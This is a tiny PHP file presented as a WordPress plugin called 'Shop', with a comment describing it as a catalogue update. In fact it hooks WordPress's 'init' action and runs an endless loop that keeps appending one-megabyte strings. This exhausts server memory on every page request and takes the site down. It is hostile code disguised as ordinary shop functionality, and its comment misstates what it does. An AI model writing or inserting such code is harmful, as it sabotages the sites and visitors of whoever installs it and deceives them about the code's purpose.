<?php
/* Plugin Name: Shop */

// An update that reads the whole catalogue into memory.
add_action('init', function () {
    for ($goods = []; ; ) {
        $goods[] = str_repeat('x', 1 << 20);
    }
});
